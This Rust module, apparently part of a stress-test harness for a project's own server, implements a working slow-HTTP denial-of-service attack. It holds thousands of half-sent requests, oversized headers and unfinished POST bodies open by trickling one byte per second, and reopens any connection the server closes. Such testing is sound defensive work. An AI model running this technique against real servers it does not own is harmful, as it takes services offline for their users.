//! Requests that never come to their end.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::attacker::Attacker;

/// How many half requests are open at the same time.
const HALVES: u32 = 4000;
/// How many requests with very long headers are.
const LONG: u32 = 300;
/// How long those headers are, in bytes.
const LONG_HEADERS: usize = 385 * 1024;
/// How many bodies are on their way.
const BODIES: u32 = 500;
/// After how long one more byte is sent.
const TRICKLE: Duration = Duration::from_secs(1);
/// How long after another one is opened: it is the server that is to be busy.
const BREATH: Duration = Duration::from_micros(200);

/// Opens as many requests as it is let, and ends none of them.
pub(super) async fn attack(attacker: &Attacker) {
    let half = "GET /api/tables HTTP/1.1\r\nHost: x\r\nX-Half: ".to_owned();
    let mut long = "GET /api/tables HTTP/1.1\r\nHost: x\r\n".to_owned();
    let line = format!("X-Long: {}\r\n", "x".repeat(8 * 1024));
    while long.len() < LONG_HEADERS {
        long.push_str(&line);
    }
    long.truncate(LONG_HEADERS);
    let body = "POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
                Content-Length: 4000\r\n\r\n{";
    // In turn, so that each kind has its part where connections are few.
    let kinds = [(half.as_str(), HALVES), (&long, LONG), (body, BODIES)];
    let most = kinds.iter().map(|(_, count)| *count).max().unwrap_or(0);
    let held = (0..most).flat_map(|number| {
        let open = kinds.iter().filter(move |(_, count)| number < *count);
        let after = BREATH * number;
        open.map(move |(begin, _)| hold(attacker, begin.as_bytes(), after))
    });
    join_all(held).await;
}

/// Keeps one request open, and opens another one where the server has closed it.
async fn hold(attacker: &Attacker, begin: &[u8], after: Duration) {
    sleep(after).await;
    while attacker.goes_on() {
        let Some(mut stream) = attacker.stream().await else {
            continue;
        };
        if stream.write_all(begin).await.is_ok() {
            attacker.asked(1);
            trickle(&mut stream).await;
        }
        attacker.refused().await;
    }
}

/// Sends byte after byte, until the server has had enough.
async fn trickle(stream: &mut TcpStream) {
    let mut answer = [0; 512];
    loop {
        tokio::select! {
            // Whatever the answer, or none: the request is over.
            _ = stream.read(&mut answer) => return,
            () = sleep(TRICKLE) => if stream.write_all(b"x").await.is_err() {
                return;
            },
        }
    }
}
